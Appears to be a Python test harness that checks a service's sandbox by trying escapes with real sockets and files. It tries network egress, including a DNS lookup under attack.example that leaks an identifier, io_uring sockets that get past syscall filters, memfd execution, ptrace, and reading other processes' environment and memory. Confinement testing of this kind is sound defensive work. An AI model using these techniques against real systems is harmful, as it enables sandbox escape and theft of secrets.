"""Tries what must not work, as a program that took a service over would: real sockets, real files.

It runs on the machine by itself, with nothing but Python: `attack.py FACTS SERVICE ATTACK...`. An
attack is a name of `ATTACKS`, mostly with an argument after a colon. Each is tried in a process of
its own, and what is printed is, for each, whether it got through and why not.
"""

import ctypes
import errno
import json
import mmap
import os
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

_TRIAL_S = 120
_ANSWER_S = 5
_LINKER = "/lib64/ld-linux-x86-64.so.2"
# Of the kernel's own tables for x86_64.
_CLOCK_SETTIME, _INIT_MODULE = 227, 175
_RING_SETUP, _RING_ENTER = 425, 426
_PTRACE_SEIZE = 0x4206
_CLONE_NEWUSER = 0x10000000

_LOAD_ENGINE = """
import onnxruntime, os, time
time.sleep(2)
kept = os.path.join(os.path.expanduser("~"), ".cache", "Microsoft")
found = [kept] if os.path.exists(kept) else []
for number in os.listdir("/proc/self/fd"):
    try:
        found.append(os.readlink("/proc/self/fd/" + number))
    except OSError:
        pass
print([one for one in found if one == kept or one.startswith("socket:")])
"""

LIBC = ctypes.CDLL(None, use_errno=True)
# Addresses, process numbers, and who attacks: what is heard outside bears that name.
FACTS: dict[str, str] = {}


class Refused(Exception):
    """It did not get through."""


def call(name: str, *arguments: int | bytes | None) -> int:
    """Calls the C library; a failure is an OSError."""
    given = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    code = int(getattr(LIBC, name)(*given))
    if code == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return code


def reaches_the_kernel(number: int, *arguments: int | bytes | None) -> None:
    """Makes a system call that cannot succeed; only a filter answers EPERM."""
    try:
        call("syscall", number, *arguments)
    except PermissionError:
        raise
    except OSError as error:
        if error.errno not in (errno.EINVAL, errno.EFAULT, errno.ENOSYS, errno.ENOEXEC):
            raise


# ---- Ways out ------------------------------------------------------------------------------------


def tcp(where: str) -> None:
    with socket.create_connection((FACTS[where], int(FACTS["port"])), _ANSWER_S) as stream:
        stream.sendall(FACTS["who"].encode())


def udp(where: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(FACTS["who"].encode(), (FACTS[where], int(FACTS["port"])))


def dns(_: str) -> None:
    socket.getaddrinfo(f"{FACTS['who']}.attack.example", 80, socket.AF_INET)


def made(family: str) -> None:
    kind = socket.SOCK_RAW if family in {"AF_NETLINK", "AF_PACKET"} else socket.SOCK_DGRAM
    socket.socket(getattr(socket, family), kind).close()


def ping(_: str) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


def unix(path: str) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as stream:
        stream.connect(path)


def ring(path: str) -> None:
    """Lets io_uring make the socket, which no filter of system calls sees (io_uring_enter(2))."""
    with socket.socket(fileno=_socket_by_ring(socket.AF_UNIX, socket.SOCK_STREAM)) as stream:
        stream.connect(path)


def _socket_by_ring(family: int, kind: int) -> int:
    parameters = ctypes.create_string_buffer(120)
    call_ring = LIBC.syscall
    descriptor = call_ring(_RING_SETUP, 1, parameters)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    offsets = struct.unpack_from("<10I", parameters.raw, 40)  # of the ring of what is asked
    answers = struct.unpack_from("<6I", parameters.raw, 80)[5]
    asked = mmap.mmap(descriptor, 4096)
    entries = mmap.mmap(descriptor, 64, offset=0x10000000)
    # IORING_OP_SOCKET takes its family as the descriptor and its kind as the offset.
    entries[:64] = struct.pack("<BBHiQQII32x", 45, 0, 0, family, kind, 0, 0, 0)
    struct.pack_into("<I", asked, offsets[6], 0)
    struct.pack_into("<I", asked, offsets[1], 1)
    if call_ring(_RING_ENTER, descriptor, 1, 1, 1, None, 0) < 0:
        raise OSError(ctypes.get_errno(), "io_uring_enter")
    code: int = struct.unpack_from("<Qi", asked, answers)[1]
    if code < 0:
        raise OSError(-code, os.strerror(-code))
    return code


def datagram(where: str) -> None:
    """Sends to a place on this host; nobody need be there."""
    host, _, port = where.partition("=")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(b"x", (host, int(port)))


def telemetry(program: str) -> None:
    """Loads onnxruntime as the service does; what it does by itself is the attack."""
    words = [program, "-c", _LOAD_ENGINE]
    done = subprocess.run(words, capture_output=True, text=True, check=True)
    if done.stdout.strip() == "[]":
        raise Refused("it left no file and opened no socket")


# ---- Files ---------------------------------------------------------------------------------------


def read(path: str) -> None:
    target = Path(path)
    if target.is_dir():
        next(target.iterdir(), None)
        return
    if not target.read_bytes():
        raise Refused("it is empty")


def write(folder: str) -> None:
    probe = Path(folder) / ".attack"
    probe.write_bytes(b"x")
    probe.unlink()


def run(folder: str) -> None:
    with _Copy(folder, b"#!/bin/sh\nexit 0\n") as probe:
        _run(str(probe))


def run_by_linker(folder: str) -> None:
    with _Copy(folder, Path("/bin/true").read_bytes()) as probe:
        _run(_LINKER, str(probe))


def run_from_memory(_: str) -> None:
    """Runs a program that is in no folder (memfd_create(2))."""
    memory = os.memfd_create("attack", 0)
    os.write(memory, Path("/bin/true").read_bytes())
    done = subprocess.run([f"/proc/self/fd/{memory}"], check=False, pass_fds=[memory])
    if done.returncode:
        raise Refused(f"exit {done.returncode}")


def load(folder: str) -> None:
    """Loads a library that it wrote."""
    import _ctypes

    with _Copy(folder, Path(_ctypes.__file__).read_bytes()) as probe:
        ctypes.CDLL(str(probe))


def set_uid_bit(folder: str) -> None:
    with _Copy(folder, b"") as probe:
        probe.chmod(0o4755)
        if not probe.stat().st_mode & stat.S_ISUID:
            raise Refused("the bit is not there")


class _Copy:
    def __init__(self, folder: str, content: bytes) -> None:
        self._path = Path(folder) / ".attack"
        self._content = content

    def __enter__(self) -> Path:
        self._path.write_bytes(self._content)
        self._path.chmod(0o700)
        return self._path

    def __exit__(self, *_: object) -> None:
        self._path.unlink()


def _run(*command: str) -> None:
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    if done.returncode:
        raise Refused(f"exit {done.returncode}: {done.stderr.strip()}")


# ---- Other processes -----------------------------------------------------------------------------


def signal_to(service: str) -> None:
    os.kill(int(FACTS[service]), 0)


def trace(service: str) -> None:
    call("ptrace", _PTRACE_SEIZE, int(FACTS[service]), 0, 0)


def peek(service: str) -> None:
    Path(f"/proc/{FACTS[service]}/environ").read_bytes()


def read_memory(service: str) -> None:
    """Reads what another process holds in its memory."""
    process = Path(f"/proc/{FACTS[service]}")
    first = (process / "maps").read_text().partition("-")[0]
    with (process / "mem").open("rb") as memory:
        memory.seek(int(first, 16))
        memory.read(16)


def read_through(argument: str) -> None:
    """Reads a file as another process sees it."""
    service, _, path = argument.partition("=")
    read(f"/proc/{FACTS[service]}/root{path}")


def see(service: str) -> None:
    if FACTS[service] not in {entry.name for entry in Path("/proc").iterdir()}:
        raise Refused("it is not there")


# ---- The kernel, and more rights ----------------------------------------------------------------


def become_root(_: str) -> None:
    os.setuid(0)


def set_uid_program(path: str) -> None:
    """Runs a program that belongs to root and bears the bit."""
    done = subprocess.run([path, "-u"], capture_output=True, text=True, check=True)
    if done.stdout.strip() != "0":
        raise Refused("it ran with no more rights")


def mount(folder: str) -> None:
    call("mount", b"tmpfs", folder.encode(), b"tmpfs", 0, None)
    call("umount", folder.encode())


def user_namespace(_: str) -> None:
    call("unshare", _CLONE_NEWUSER)


def chroot(_: str) -> None:
    os.chroot("/")


def module(_: str) -> None:
    reaches_the_kernel(_INIT_MODULE, b"", 0, b"")


def clock(_: str) -> None:
    # A time with too many nanoseconds is refused by the kernel, whoever asks.
    reaches_the_kernel(_CLOCK_SETTIME, 0, struct.pack("<qq", 0, 2_000_000_000))


def hostname(_: str) -> None:
    socket.sethostname(socket.gethostname())


def cgroup(folder: str) -> None:
    probe = Path(folder) / "attack"
    probe.mkdir()
    probe.rmdir()


def core(_: str) -> None:
    resource.setrlimit(resource.RLIMIT_CORE, (4096, 4096))


def personality(_: str) -> None:
    call("personality", 0x0040000)


def code_in_memory(_: str) -> None:
    mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC).close()


ATTACKS: dict[str, Callable[[str], None]] = {
    one.__name__: one
    for one in (
        *(tcp, udp, dns, made, ping, unix, ring, datagram, telemetry),
        *(read, write, run, run_by_linker, run_from_memory, load, set_uid_bit),
        *(signal_to, trace, peek, read_memory, read_through, see),
        *(become_root, set_uid_program, mount, user_namespace, chroot, module, clock, hostname),
        *(cgroup, core, personality, code_in_memory),
    )
}


def attempt(attack: str) -> dict[str, bool | str]:
    """Tries one attack in a process of its own."""
    ours, childs = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(_TRIAL_S)
        os.write(childs, _outcome(attack).encode()[:2000])
        os._exit(0)
    os.close(childs)
    with os.fdopen(ours) as answers:
        said = answers.read()
    status = os.waitpid(child, 0)[1]
    why = said or f"ended with status {status}"
    return {"through": said == "through", "why": why}


def _outcome(attack: str) -> str:
    name, _, argument = attack.partition(":")
    try:
        ATTACKS[name](argument)
    except (OSError, Refused, subprocess.SubprocessError) as error:
        return f"{type(error).__name__}: {error}"
    except ValueError as error:  # a limit that may not be raised
        return f"{type(error).__name__}: {error}"
    except BaseException as error:  # noqa: BLE001 - a mistake here must not look like a wall
        return f"mistake: {type(error).__name__}: {error}"
    return "through"


def main() -> int:
    """Tries what the command line names, and prints what came of it."""
    facts, who, *attacks = sys.argv[1:]
    FACTS.update(json.loads(Path(facts).read_text()), who=who)
    print(json.dumps({attack: attempt(attack) for attack in attacks}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
